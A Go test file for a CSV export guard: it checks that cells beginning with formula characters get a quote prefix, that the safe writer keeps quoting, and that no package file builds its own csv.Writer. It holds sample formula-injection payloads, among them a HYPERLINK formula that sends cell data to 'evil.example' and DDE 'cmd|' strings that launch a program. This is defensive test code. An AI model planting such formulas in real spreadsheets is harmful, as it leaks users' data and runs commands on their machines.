package server

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

func TestNeutralizeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"", ""},
		{"plain", "plain"},
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-2+3", "'-2+3"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"a=b", "a=b"},             // only the first character counts
		{" =1+1", " =1+1"},         // a leading space is not a formula
		{"'=already", "'=already"}, // a leading quote is text already
		{"2026-12-04T19:00:00Z", "2026-12-04T19:00:00Z"},
		{"ünïcode", "ünïcode"},
	} {
		if got := neutralizeCell(tc.in); got != tc.want {
			t.Errorf("neutralizeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// The writer neutralizes every cell of every record, keeps encoding/csv's
// quoting, and leaves the caller's record alone.
func TestSafeCSVWriter(t *testing.T) {
	var buf bytes.Buffer
	cw := newCSVWriter(&buf)
	header := []string{"id", "name", "notes"}
	row := []string{"b1", "=cmd|' /C calc'!A0", "said \"hi\",\nthen -left"}
	orig := slices.Clone(row)
	for _, rec := range [][]string{header, row, {"b2", "@x", "+y"}} {
		if err := cw.Write(rec); err != nil {
			t.Fatal(err)
		}
	}
	cw.Flush()
	if err := cw.Error(); err != nil {
		t.Fatal(err)
	}
	if !slices.Equal(row, orig) {
		t.Errorf("Write changed its argument: %q", row)
	}
	const want = "id,name,notes\n" +
		"b1,'=cmd|' /C calc'!A0,\"said \"\"hi\"\",\nthen -left\"\n" +
		"b2,'@x,'+y\n"
	if buf.String() != want {
		t.Errorf("csv =\n%s\nwant\n%s", buf.String(), want)
	}
	// It reads back as the neutralized cells.
	recs, err := csv.NewReader(strings.NewReader(buf.String())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got := recs[1][1]; got != "'=cmd|' /C calc'!A0" {
		t.Errorf("read back %q", got)
	}
}

// Every CSV export writes through newCSVWriter: no other file of the
// package builds a csv.Writer of its own.
func TestNoUnsafeCSVWriter(t *testing.T) {
	files, err := filepath.Glob("*.go")
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range files {
		if f == "csvsafe.go" || strings.HasSuffix(f, "_test.go") {
			continue
		}
		src, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		if bytes.Contains(src, []byte("csv.NewWriter(")) {
			t.Errorf("%s calls csv.NewWriter: use newCSVWriter, which neutralizes formulas", f)
		}
	}
}
